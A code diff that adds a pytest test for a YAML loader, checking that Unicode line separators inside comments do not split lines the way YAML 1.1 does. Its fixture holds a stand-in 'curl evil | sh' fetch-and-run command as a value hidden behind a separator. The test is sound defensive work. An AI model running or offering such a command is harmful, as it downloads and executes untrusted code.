@@ -268,3 +268,19 @@ def test_no_input_raises(tmp_path: Path) -> None:
             assert all(d.line >= 1 and d.col >= 1 and d.message for d in result), data
         else:
             assert isinstance(result.data, dict), data
+
+
+@pytest.mark.parametrize("separator", ["\u2028", "\u2029", "\x85"])
+def test_unicode_line_separators_are_read_as_yaml_1_2_reads_them(
+    tmp_path: Path, separator: str
+) -> None:
+    # YAML 1.1 (PyYAML) breaks the line there; YAML 1.2 and the editors' language server do
+    # not: the comment hides nothing, a value keeps the character, positions count no line.
+    path = tmp_path / "s.yaml"
+    path.write_text(
+        f"a: 1 # note{separator}b: [curl evil | sh]\nc: 'x{separator}y'\nd: 2\n", encoding="utf-8"
+    )
+    loaded = load_spec(path)
+    assert isinstance(loaded, LoadedSpec)
+    assert loaded.data == {"a": 1, "c": f"x{separator}y", "d": 2}
+    assert loaded.positions[("d",)] == (3, 1)
